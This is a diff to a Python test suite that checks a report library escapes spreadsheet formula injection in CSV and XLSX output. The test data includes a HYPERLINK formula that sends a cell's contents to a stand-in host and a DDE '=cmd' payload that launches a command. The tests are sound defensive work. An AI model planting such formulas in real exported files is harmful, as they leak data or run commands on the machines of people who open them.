@@ -13,12 +13,23 @@ import csv
 import openpyxl
 import pandas as pd
 import pytest
-from conftest import FORMULAS
 
 from socialperf.cli import main
 from socialperf.report import Report
 
 RISKY = ("=", "+", "-", "@", "\t", "\r")
+
+#: One string per character that makes a spreadsheet treat a cell as a formula.
+FORMULAS = (
+    "=1+2",
+    "+1+2",
+    "-1+2",
+    "@SUM(A1:A2)",
+    "\t=1+2",
+    "\r=1+2",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+)
 
 
 def _hostile_frame() -> pd.DataFrame:
@@ -251,3 +262,15 @@ def test_xlsx_control_characters_do_not_break_the_workbook(tmp_path):
     assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
     back = pd.read_csv(files.tables["t"], index_col=0)
     assert list(back.index) == ["\x00A", "B"]
+
+
+def test_csv_escapes_categorical_and_multiindex_text(tmp_path):
+    frame = pd.DataFrame(
+        {("=grp", "-a"): pd.Categorical(["=x", "y"]), ("=grp", 2): [1.0, -2.0]},
+        index=pd.MultiIndex.from_tuples([("=k", 1), ("k", 2)], names=["@i", "j"]),
+    )
+    Report("r").table("t", frame).write(tmp_path / "out")
+    with (tmp_path / "out" / "tables" / "t.csv").open(newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert [c for c in cells if c[:1] in RISKY and not _is_number(c)] == []
+    assert {"'=x", "'=k", "'@i", "'=grp", "'-a", "-2.0"} <= set(cells)
